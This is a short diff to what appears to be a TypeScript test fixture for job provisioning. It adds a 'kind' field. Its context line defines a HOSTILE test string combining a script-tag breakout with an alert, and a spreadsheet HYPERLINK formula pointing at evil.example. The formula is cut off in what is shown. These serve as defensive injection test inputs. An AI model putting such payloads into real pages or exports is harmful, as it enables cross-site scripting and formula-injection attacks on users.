@@ -17,6 +17,7 @@ const HOSTILE = '</script><script>alert(1)</script> =HYPERLINK("http://evil.exam
 function liveJob(companyName: string): JobFacts {
   return {
     jobId: 'job-1',
+    kind: 'provision',
     seq: 3,
     planId: 'starter',
     tenantSlug: 'hostile',
